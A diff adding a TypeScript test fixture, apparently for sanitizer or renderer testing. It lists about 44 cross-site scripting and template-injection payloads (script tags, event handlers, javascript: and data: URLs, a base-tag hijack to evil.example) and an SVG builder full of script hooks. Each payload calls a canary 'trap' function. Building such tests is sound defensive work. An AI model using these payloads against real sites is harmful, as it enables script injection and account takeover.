@@ -1,0 +1,53 @@
+import { trap } from './browser.ts';
+
+/** Words that run where they are taken for markup, for script, for an address, or for a template. */
+export const payloads: readonly string[] = [
+  `<script>${trap}(1)</script>`,
+  `"><script>${trap}(2)</script>`,
+  `</script><script>${trap}(3)</script>`,
+  `<img src=x onerror=${trap}(4)>`,
+  `"><img src=x onerror="${trap}(5)">`,
+  `'><img src=x onerror='${trap}(6)'>`,
+  `<svg onload=${trap}(7)>`,
+  `<svg><script>${trap}(8)</script></svg>`,
+  `<svg><animate onbegin=${trap}(9) attributeName=x dur=1s>`,
+  `<math><mi//xlink:href="data:x,<script>${trap}(10)</script>">`,
+  `<body onload=${trap}(11)>`,
+  `<iframe srcdoc="<script>parent.${trap}(12)</script>"></iframe>`,
+  `<iframe src="javascript:parent.${trap}(13)"></iframe>`,
+  `<object data="data:text/html,<script>parent.${trap}(14)</script>"></object>`,
+  `<embed src="data:text/html,<script>parent.${trap}(15)</script>">`,
+  `<details open ontoggle=${trap}(16)>`,
+  `<video><source onerror=${trap}(17)></video>`,
+  `<audio src=x onerror=${trap}(18)>`,
+  `<input autofocus onfocus=${trap}(19)>`,
+  `<select autofocus onfocus=${trap}(20)>`,
+  `<textarea autofocus onfocus=${trap}(21)>`,
+  `<marquee onstart=${trap}(22)>`,
+  `<style>@import'data:text/css,*{color:red}';</style><style onload=${trap}(23)></style>`,
+  `<link rel=stylesheet href="data:text/css," onload=${trap}(24)>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${trap}(25)">`,
+  `<base href="https://evil.example/">`,
+  `<form action="javascript:${trap}(27)"><button autofocus onfocus=${trap}(27)>x</button></form>`,
+  `<a href="javascript:${trap}(28)" id=zqlink>x</a>`,
+  `javascript:${trap}(29)`,
+  `JaVaScRiPt:${trap}(30)`,
+  `data:text/html,<script>${trap}(31)</script>`,
+  `{{constructor.constructor('${trap}(32)')()}}`,
+  `\${${trap}(33)}`,
+  `#{${trap}(34)}`,
+  `[x](javascript:${trap}(35))`,
+  `![x](x"onerror="${trap}(36))`,
+  `<noscript><p title="</noscript><img src=x onerror=${trap}(37)>">`,
+  `<template><img src=x onerror=${trap}(38)></template><img src=x onerror=${trap}(38)>`,
+  `\u003cimg src=x onerror=${trap}(39)\u003e`,
+  `<x onpointerenter=${trap}(40) onmouseover=${trap}(40) style=position:fixed;inset:0>`,
+  `<img/src/onerror=${trap}(41)>`,
+  `--><img src=x onerror=${trap}(42)><!--`,
+  `]]><img src=x onerror=${trap}(43)>`,
+  `\u202e<img src=x onerror=${trap}(44)>`,
+];
+
+/** A drawing that is all script. */
+export const svgFile = (payload: string): string =>
+  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="${trap}(50)"><script>${trap}(51)</script><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${trap}(52)"/></body></foreignObject><a xlink:href="javascript:${trap}(53)"><text>${payload.replace(/[<&>"]/g, ' ')}</text></a><rect width="20" height="20"/></svg>`;
